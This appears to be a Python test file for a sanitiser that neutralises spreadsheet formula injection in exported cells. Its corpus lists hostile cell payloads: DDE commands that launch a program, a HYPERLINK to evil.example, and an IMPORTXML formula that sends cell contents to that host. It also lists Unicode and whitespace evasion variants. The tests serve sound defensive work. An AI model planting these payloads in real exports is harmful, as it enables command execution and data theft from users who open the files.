"""What a spreadsheet would run is text after ``inert``, and everything else is as it was."""

import json

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from orbitctl.render.formulas import inert, inert_json, restored

#: Cells that spreadsheets run, or have run: one way in each.
CORPUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","click")',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext after a tab",
    "\rtext after a return",
    " =1+1",
    "\xa0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "−1+1",
    " \t ＝1+1",
    "'=1+1",
    "''=1+1",
    "fine;=1+1",
    "fine; =1+1",
    "fine\t=1+1",
    "fine\n=1+1",
    "fine\r\n@SUM(1)",
]
HARMLESS = [
    "",
    "Apollo 11",
    "1 - 1",
    "a=b",
    "me@space.example",
    "5",
    "2021-03-09",
    "2027-06~",
    "'t was",
    "’t",
    "fine; really",
    "a, -b",
    "–",
    "/etc",
    '"=1+1"',
    "(=1)",
]
RUNS = "=+-@＝＋－＠﹦﹢﹣﹫−\t\r\n"
text = st.text(st.sampled_from("=+-@＝＋－＠−'; \t\r\n\xa0\u200b\x00a1\",")) | st.text()


@pytest.mark.parametrize("cell", CORPUS)
def test_corpus_is_inert(cell):
    assert starts_nothing(inert(cell))
    assert inert(cell) != cell
    assert restored(inert(cell)) == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_harmless_text_stays(cell):
    assert inert(cell) == cell


def starts_nothing(cell):
    """Tell whether no part of a cell, however it is cut, begins with a sign after blanks."""
    parts = [cell]
    for separator in ";\t\r\n":
        parts = [inner for part in parts for inner in part.split(separator)]
    blank = "".join(map(chr, [*range(33), *range(127, 161), 0xAD, 0x200B, 0x3000, 0xFEFF]))
    return (
        not any(part.lstrip(blank)[:1] and part.lstrip(blank)[0] in RUNS for part in parts)
        and cell[:1] not in RUNS[-3:]
    )


@given(text)
@example("\n \n=")
@example("\t'=")
def test_any_text_is_inert_and_comes_back(cell):
    assert starts_nothing(inert(cell)) or inert(cell) == ""
    assert restored(inert(cell)) == cell


@given(st.lists(st.text(st.sampled_from("=+-@＝; '\"\\\x1f\u2028a")) | st.text(), min_size=1))
def test_json_stays_the_same_json(values):
    shown = inert_json(json.dumps(values, ensure_ascii=False))
    assert json.loads(shown) == values
    assert starts_nothing(shown)


def test_a_long_run_of_blanks_takes_no_time():
    assert inert(";\x1f" * 20_000 + "\x85" * 20_000) == ";\x1f" * 20_000 + "\x85" * 20_000
